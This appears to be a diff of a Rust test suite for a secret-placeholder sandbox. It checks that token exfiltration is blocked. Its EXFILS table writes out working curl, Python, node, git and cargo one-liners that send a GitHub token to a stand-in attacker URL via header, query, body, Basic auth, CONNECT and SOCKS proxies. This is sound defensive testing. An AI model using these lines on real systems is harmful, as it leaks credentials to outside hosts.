@@ -19,9 +19,10 @@ use support::{can_switch_user, capture, open_to_everyone, Harness, RunOutput};
 /// host's.
 const VALUE: &str = "ghp_PLANTEDsecretVALUE0123456789abcdef";
 
-/// An HTTPS server (python3) that logs every request (method, path,
-/// headers, body) to `log`, and answers `AUTH-OK` when its Authorization
-/// header is the real value (Bearer or Basic `user:VALUE`), else 401.
+/// An HTTPS (or plain HTTP) server (python3) that logs every request
+/// (method, path, headers, Basic credentials decoded, body) to `log`, and
+/// answers `AUTH-OK` when its Authorization header is the real value
+/// (Bearer or Basic `user:VALUE`), else 401.
 struct Server {
     child: Child,
     port: u16,
@@ -36,9 +37,12 @@ class H(http.server.BaseHTTPRequestHandler):
     def handle_any(self):
         n = int(self.headers.get('Content-Length') or 0)
         body = self.rfile.read(n) if n else b''
-        with open(log, 'ab') as f:
-            f.write(('%s %s\n%s\n' % (self.command, self.path, self.headers)).encode() + body + b'\n----\n')
         auth = self.headers.get('Authorization') or ''
+        decoded = b''
+        if auth[:6].lower() == 'basic ':
+            decoded = b'Basic-decoded: ' + base64.b64decode(auth[6:] + '==') + b'\n'
+        with open(log, 'ab') as f:
+            f.write(('%s %s\n%s\n' % (self.command, self.path, self.headers)).encode() + decoded + body + b'\n----\n')
         basic = 'Basic ' + base64.b64encode(('user:' + value).encode()).decode()
         ok = auth in ('Bearer ' + value, basic, value)
         out = b'AUTH-OK\n' if ok else b'NO-AUTH\n'
@@ -53,9 +57,10 @@ class H(http.server.BaseHTTPRequestHandler):
     do_GET = do_POST = do_DELETE = handle_any
     def log_message(self, *a): pass
 s = http.server.ThreadingHTTPServer(('127.0.0.1', 0), H)
-c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
-c.load_cert_chain(cert, key)
-s.socket = c.wrap_socket(s.socket, server_side=True)
+if cert != '-':
+    c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    c.load_cert_chain(cert, key)
+    s.socket = c.wrap_socket(s.socket, server_side=True)
 print(s.server_address[1], flush=True)
 s.serve_forever()
 "#;
@@ -69,12 +74,22 @@ impl Server {
     /// under `files` with the file.
     fn serving(dir: &Path, name: &str, ca: &TestCa, san: &str, files: Option<&Path>) -> Server {
         let (cert, key) = ca.leaf(dir, name, san);
+        Server::spawn(dir, name, [cert.as_os_str(), key.as_os_str()], files)
+    }
+
+    /// The same server over plain HTTP: a request through the proxy is
+    /// then one the proxy reads whole (head, URL and body), whatever host
+    /// it is for.
+    fn plain(dir: &Path, name: &str) -> Server {
+        Server::spawn(dir, name, ["-".as_ref(), "-".as_ref()], None)
+    }
+
+    fn spawn(dir: &Path, name: &str, tls: [&std::ffi::OsStr; 2], files: Option<&Path>) -> Server {
         let log = dir.join(format!("{name}.log"));
         std::fs::write(&log, "").unwrap();
         let mut child = Command::new("python3")
             .args(["-c", SERVER])
-            .arg(&cert)
-            .arg(&key)
+            .args(tls)
             .arg(&log)
             .arg(VALUE)
             .args(files)
@@ -276,12 +291,16 @@ fn the_bound_host_gets_the_value_and_the_spell_only_the_placeholder() {
         assert_printed(&out, user, "AUTH-OK py");
         let log = bound.log();
         // Bearer three times (curl, Python, git) as is; Basic as base64,
-        // checked by the server (its third AUTH-OK).
+        // checked by the server (its third AUTH-OK) and logged decoded.
         assert!(log.contains("User-Agent: git/"), "{user:?}: {log}");
+        assert!(
+            log.contains(&format!("Basic-decoded: user:{VALUE}")),
+            "{user:?}: {log}"
+        );
         assert_printed(&out, user, "ENVIRONS 0\n");
         assert_eq!(
             log.matches(VALUE).count(),
-            3,
+            4,
             "{user:?}: the bound host's log: {log}"
         );
         assert!(!log.contains("magus-secret-"), "{user:?}: {log}");
@@ -397,11 +416,9 @@ fn stage_registry(root: &Path, port: u16) {
 /// the token (`auth-required`): cargo sends the placeholder, the registry
 /// gets the value, the crate is downloaded (`cargo fetch` would also ask
 /// for `rustc`, which is not in the view). cargo is the one running this
-/// test (`CARGO`), copied into the workspace: the toolchain under `/root`
-/// is outside the view (and closed to uid 65534).
+/// test ([`install_cargo`]).
 #[test]
 fn cargo_downloads_from_a_registry_that_needs_the_token() {
-    let cargo = PathBuf::from(std::env::var_os("CARGO").expect("cargo runs the tests"));
     let dir = tempfile::tempdir().unwrap();
     let ca = TestCa::new(dir.path());
     let files = dir.path().join("files");
@@ -417,25 +434,15 @@ fn cargo_downloads_from_a_registry_that_needs_the_token() {
     for user in users() {
         bound.clear();
         let h = harness("sandbox:\n  enabled: true\n", &script);
-        // Outside the workspace (whose files children may not execute),
-        // granted read and execute.
-        let tools = h.root.join("tools");
-        std::fs::create_dir_all(&tools).unwrap();
-        std::fs::copy(&cargo, tools.join("cargo")).unwrap();
-        let cargo_in = tools.join("cargo").display().to_string();
+        let cargo = install_cargo(&h);
         std::fs::write(
             h.ws_path("probe.sh"),
-            script.replace("\"$CARGO_BIN\"", &cargo_in),
+            script.replace("\"$CARGO_BIN\"", &cargo.display().to_string()),
         )
         .unwrap();
-        let granted = format!(
-            "sandbox:\n  enabled: true\n  allow:\n    - path: {:?}\n      mode: ro\n",
-            tools.display().to_string()
-        );
-        h.write_config(&config(b, attacker.port).replacen(
-            "sandbox:\n  enabled: true\n",
-            &granted,
-            1,
+        h.write_config(&granting(
+            &config(b, attacker.port),
+            cargo.parent().unwrap(),
         ));
         std::fs::create_dir_all(h.ws_path("app/src")).unwrap();
         std::fs::write(
@@ -445,9 +452,7 @@ fn cargo_downloads_from_a_registry_that_needs_the_token() {
         .unwrap();
         std::fs::write(h.ws_path("app/src/main.rs"), "fn main() {}\n").unwrap();
         open_to_everyone(&h.root);
-        use std::os::unix::fs::PermissionsExt;
-        std::fs::set_permissions(tools.join("cargo"), std::fs::Permissions::from_mode(0o755))
-            .unwrap();
+        executable(&cargo);
         let out = run_as_is(&h, user, &ca.pem);
         assert_eq!(out.status, Some(0), "{user:?}: {}", out.dump());
         assert_printed(&out, user, "CARGO-FETCHED");
@@ -463,6 +468,286 @@ fn cargo_downloads_from_a_registry_that_needs_the_token() {
         // has the value.
         assert_value_nowhere(&h, &out, user);
         assert!(attacker.log().is_empty());
+    }
+}
+
+/// A client a spell might use to carry its token out, and how it puts the
+/// placeholder in a header, the URL and the body (where it can) of a
+/// request to `$U`, the attacker's URL for that attempt.
+struct Exfil {
+    client: &'static str,
+    /// Why the client cannot run here; it is then skipped, saying so.
+    absent: fn() -> Option<String>,
+    /// Each attempt: its name and the shell line that makes it.
+    attempts: &'static [(&'static str, &'static str)],
+}
+
+const EXFILS: &[Exfil] = &[
+    Exfil {
+        client: "curl",
+        absent: || tool_absent("curl", &["--version"]),
+        attempts: &[
+            ("header", "curl -sS --max-time 10 -o /dev/null -H \"X-T: $GITHUB_TOKEN\" \"$U\""),
+            ("url", "curl -sS --max-time 10 -o /dev/null \"$U?t=$GITHUB_TOKEN\""),
+            ("body", "curl -sS --max-time 10 -o /dev/null -d \"t=$GITHUB_TOKEN\" \"$U\""),
+            ("basic", "curl -sS --max-time 10 -o /dev/null -u \"user:$GITHUB_TOKEN\" \"$U\""),
+            // The same request through a `CONNECT` tunnel and through
+            // SOCKS5 (direct in the control, where no proxy is set).
+            ("tunnel", "curl -sS --max-time 10 -o /dev/null -p -x \"$HTTP_PROXY\" -H \"X-T: $GITHUB_TOKEN\" \"$U\""),
+            ("socks", "curl -sS --max-time 10 -o /dev/null -x \"$ALL_PROXY\" -H \"X-T: $GITHUB_TOKEN\" \"$U\""),
+        ],
+    },
+    Exfil {
+        client: "urllib",
+        absent: || tool_absent("/usr/bin/python3", &["-c", "import urllib.request"]),
+        attempts: &[
+            ("header", "/usr/bin/python3 -c 'import os, urllib.request as u; u.urlopen(u.Request(os.environ[\"U\"], headers={\"X-T\": os.environ[\"GITHUB_TOKEN\"]}), timeout=10)'"),
+            ("url", "/usr/bin/python3 -c 'import os, urllib.request as u; u.urlopen(os.environ[\"U\"] + \"?t=\" + os.environ[\"GITHUB_TOKEN\"], timeout=10)'"),
+            ("body", "/usr/bin/python3 -c 'import os, urllib.request as u; u.urlopen(os.environ[\"U\"], data=(\"t=\" + os.environ[\"GITHUB_TOKEN\"]).encode(), timeout=10)'"),
+        ],
+    },
+    Exfil {
+        client: "requests",
+        absent: || tool_absent("/usr/bin/python3", &["-c", "import requests"]),
+        attempts: &[
+            ("header", "/usr/bin/python3 -c 'import os, requests; requests.get(os.environ[\"U\"], headers={\"X-T\": os.environ[\"GITHUB_TOKEN\"]}, timeout=10)'"),
+            ("url", "/usr/bin/python3 -c 'import os, requests; requests.get(os.environ[\"U\"], params={\"t\": os.environ[\"GITHUB_TOKEN\"]}, timeout=10)'"),
+            ("body", "/usr/bin/python3 -c 'import os, requests; requests.post(os.environ[\"U\"], data={\"t\": os.environ[\"GITHUB_TOKEN\"]}, timeout=10)'"),
+            ("basic", "/usr/bin/python3 -c 'import os, requests; requests.get(os.environ[\"U\"], auth=(\"user\", os.environ[\"GITHUB_TOKEN\"]), timeout=10)'"),
+        ],
+    },
+    Exfil {
+        client: "node",
+        absent: || match tool_absent("node", &["--version"]) {
+            None if undici().is_none() => Some("undici is not installed (MAGUS_UNDICI)".into()),
+            other => other,
+        },
+        attempts: &[
+            ("header", "node -e \"$NODE\" '{\"headers\": {\"X-T\": \"'\"$GITHUB_TOKEN\"'\"}}' \"$U\""),
+            ("url", "node -e \"$NODE\" '{}' \"$U?t=$GITHUB_TOKEN\""),
+            ("body", "node -e \"$NODE\" '{\"method\": \"POST\", \"body\": \"t='\"$GITHUB_TOKEN\"'\"}' \"$U\""),
+        ],
+    },
+    Exfil {
+        client: "git",
+        absent: || tool_absent("git", &["--version"]),
+        // A body (protocol v2's `ls-refs`) follows a first request that
+        // carries nothing, so git's attempts are the head's.
+        attempts: &[
+            ("header", "git -c http.extraHeader=\"X-T: $GITHUB_TOKEN\" ls-remote \"$U/repo.git\""),
+            ("url", "git ls-remote \"$U/$GITHUB_TOKEN.git\""),
+            ("basic", "git -c http.proactiveAuth=basic ls-remote \"http://user:$GITHUB_TOKEN@${U#http://}/repo.git\""),
+        ],
+    },
+    Exfil {
+        client: "cargo",
+        absent: || match std::env::var_os("CARGO") {
+            None => Some("CARGO is not set (not run by cargo)".into()),
+            Some(_) => None,
+        },
+        // A sparse index on the attacker's host: the placeholder in its
+        // URL, or in the `User-Agent` every cargo request carries. (A
+        // registry token goes only after `config.json` answered 401, so
+        // that first request would reach the host holding nothing.)
+        attempts: &[
+            ("header", "cd app && CARGO_REGISTRIES_EVIL_INDEX=\"sparse+$U/\" CARGO_HTTP_USER_AGENT=\"$GITHUB_TOKEN\" \"$CARGO_BIN\" generate-lockfile"),
+            ("url", "cd app && CARGO_REGISTRIES_EVIL_INDEX=\"sparse+$U/$GITHUB_TOKEN/\" \"$CARGO_BIN\" generate-lockfile"),
+        ],
+    },
+];
+
+/// Node's `fetch` through undici's `EnvHttpProxyAgent` (see [`undici`]):
+/// the options (JSON) and URL are its arguments.
+const NODE_FETCH: &str = "const u = require(process.cwd() + '/node_modules/undici'); u.setGlobalDispatcher(new u.EnvHttpProxyAgent()); fetch(process.argv[2], JSON.parse(process.argv[1])).then(r => console.log('NODE', r.status), e => console.log('NODE-ERR', String(e.cause || e)))";
+
+/// `None` when `tool args` runs and succeeds, else why not.
+fn tool_absent(tool: &str, args: &[&str]) -> Option<String> {
+    match Command::new(tool).args(args).output() {
+        Ok(out) if out.status.success() => None,
+        Ok(out) => Some(format!(
+            "`{tool} {}` failed: {}",
+            args.join(" "),
+            out.status
+        )),
+        Err(e) => Some(format!("no `{tool}`: {e}")),
+    }
+}
+
+/// The spell for `exfil`: one `sh.run` per attempt (so each refusal is
+/// said at its own line), each running `attempt.sh NAME`.
+fn exfil_spell(exfil: &Exfil) -> String {
+    let runs: String = exfil
+        .attempts
+        .iter()
+        .map(|(name, _)| format!("    sh.run([\"/bin/sh\", \"attempt.sh\", \"{name}\"]);\n"))
+        .collect();
+    format!("import \"sh\";\nfun main(args: [str]) > int {{\n{runs}    return 0;\n}}\n")
+}
+
+/// `attempt.sh`: sets `$U` to the attacker's URL for the attempt named
+/// `$1` (a path naming the client and attempt), runs its line, and says
+/// it ran.
+fn exfil_script(exfil: &Exfil, attacker: u16) -> String {
+    let cases: String = exfil
+        .attempts
+        .iter()
+        .map(|(name, line)| format!("  {name}) {line} ;;\n"))
+        .collect();
+    format!(
+        "export U=\"http://127.0.0.1:{attacker}/x-{client}-$1\" GIT_TERMINAL_PROMPT=0 CARGO_HOME=\"$PWD/cargo-home\" CARGO_NET_RETRY=0\n\
+         case \"$1\" in\n{cases}esac\n\
+         echo \"RAN {client}-$1 $?\"\n",
+        client = exfil.client
+    )
+}
+
+/// A workspace for `exfil`'s spell against `attacker`, under `config`,
+/// with what its client needs (undici; a cargo project and cargo itself,
+/// outside the workspace and granted).
+fn exfil_harness(exfil: &Exfil, config: &str, attacker: u16) -> Harness {
+    let h = Harness::with_config(config);
+    h.write_spell("probe", &exfil_spell(exfil));
+    let mut script = exfil_script(exfil, attacker);
+    match exfil.client {
+        "node" => {
+            let module = undici().expect("checked by `absent`");
+            std::fs::create_dir(h.ws_path("node_modules")).unwrap();
+            copy_dir(&module, &h.ws_path("node_modules/undici"));
+            script = format!("NODE={}\n{script}", shell_quoted(NODE_FETCH));
+        }
+        "cargo" => {
+            let cargo = install_cargo(&h);
+            h.write_config(&granting(config, cargo.parent().unwrap()));
+            script = script.replace("$CARGO_BIN", &cargo.display().to_string());
+            std::fs::create_dir_all(h.ws_path("app/src")).unwrap();
+            std::fs::write(
+                h.ws_path("app/Cargo.toml"),
+                "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n[dependencies]\nfoo = { version = \"0.1\", registry = \"evil\" }\n",
+            )
+            .unwrap();
+            std::fs::write(h.ws_path("app/src/main.rs"), "fn main() {}\n").unwrap();
+        }
+        _ => {}
+    }
+    std::fs::write(h.ws_path("attempt.sh"), script).unwrap();
+    open_to_everyone(&h.root);
+    executable(&h.root.join("tools/cargo"));
+    h
+}
+
+fn shell_quoted(text: &str) -> String {
+    format!("'{}'", text.replace('\'', "'\\''"))
+}
+
+fn copy_dir(from: &Path, to: &Path) {
+    let copied = Command::new("cp")
+        .arg("-r")
+        .arg(from)
+        .arg(to)
+        .status()
+        .unwrap();
+    assert!(copied.success(), "cp -r {}", from.display());
+}
+
+/// The cargo running this test (`CARGO`), copied outside the workspace
+/// (whose files children may not execute; the toolchain under `/root` is
+/// outside the view and closed to uid 65534).
+fn install_cargo(h: &Harness) -> PathBuf {
+    let cargo = PathBuf::from(std::env::var_os("CARGO").expect("cargo runs the tests"));
+    let tools = h.root.join("tools");
+    std::fs::create_dir_all(&tools).unwrap();
+    std::fs::copy(&cargo, tools.join("cargo")).unwrap();
+    tools.join("cargo")
+}
+
+/// `config` with `dir` granted read-only.
+fn granting(config: &str, dir: &Path) -> String {
+    let allow = format!(
+        "  allow:\n    - path: {:?}\n      mode: ro\n",
+        dir.display().to_string()
+    );
+    config.replacen(
+        "sandbox:\n  enabled: true\n",
+        &format!("sandbox:\n  enabled: true\n{allow}"),
+        1,
+    )
+}
+
+/// Makes `file`, if there, executable by everyone (after
+/// [`open_to_everyone`], which is not).
+fn executable(file: &Path) {
+    use std::os::unix::fs::PermissionsExt;
+    if file.is_file() {
+        std::fs::set_permissions(file, std::fs::Permissions::from_mode(0o755)).unwrap();
+    }
+}
+
+/// The attacker's log entry for `client`'s attempt `name`, if it got one.
+fn logged<'l>(log: &'l str, client: &str, name: &str) -> Option<&'l str> {
+    let path = format!(" /x-{client}-{name}");
+    log.split("\n----\n")
+        .find(|entry| entry.lines().next().is_some_and(|l| l.contains(&path)))
+}
+
+/// Every client, header, URL and body: the placeholder sent to the
+/// attacker's server (a listed host, plain HTTP, so the proxy reads the
+/// whole request) is refused, MGS2013 is said at each attempt's line, and
+/// the attacker's server receives no request at all. The control, the
+/// sandbox off and the value in the environment: every attempt reaches
+/// the attacker with the value.
+#[test]
+fn every_client_sending_the_placeholder_elsewhere_is_refused() {
+    let dir = tempfile::tempdir().unwrap();
+    let ca = TestCa::new(dir.path());
+    let attacker = Server::plain(dir.path(), "attacker");
+    let a = attacker.port;
+    for exfil in EXFILS {
+        let client = exfil.client;
+        if let Some(why) = (exfil.absent)() {
+            eprintln!("SKIPPED {client}: {why}");
+            continue;
+        }
+        for user in users() {
+            attacker.clear();
+            let h = exfil_harness(exfil, &config(1, a), a);
+            let out = run_as_is(&h, user, &ca.pem);
+            assert_eq!(out.status, Some(0), "{client} {user:?}: {}", out.dump());
+            for (name, _) in exfil.attempts {
+                assert_printed(&out, user, &format!("RAN {client}-{name} "));
+            }
+            let log = attacker.log();
+            assert!(log.is_empty(), "{client} {user:?}: the attacker got: {log}");
+            assert!(!log.contains("magus-secret-") && !log.contains(VALUE));
+            let refused = codes(&out.stderr)
+                .iter()
+                .filter(|c| *c == "MGS2013")
+                .count();
+            assert_eq!(
+                refused,
+                exfil.attempts.len(),
+                "{client} {user:?}: one MGS2013 per attempt: {}",
+                out.dump()
+            );
+            assert_value_nowhere(&h, &out, user);
+        }
+        // The control.
+        attacker.clear();
+        let h = exfil_harness(exfil, "sandbox:\n  enabled: false\n", a);
+        let mut cmd = h.command();
+        cmd.env("GITHUB_TOKEN", VALUE)
+            .arg("--workspace")
+            .arg(&h.ws)
+            .args(["run", "probe"]);
+        let out = capture(&mut cmd);
+        let log = attacker.log();
+        for (name, _) in exfil.attempts {
+            let entry = logged(&log, client, name);
+            assert!(
+                entry.is_some_and(|e| e.contains(VALUE)),
+                "control: {client} {name} reaches the attacker with the value: {log}\n{}",
+                out.dump()
+            );
+        }
     }
 }
 
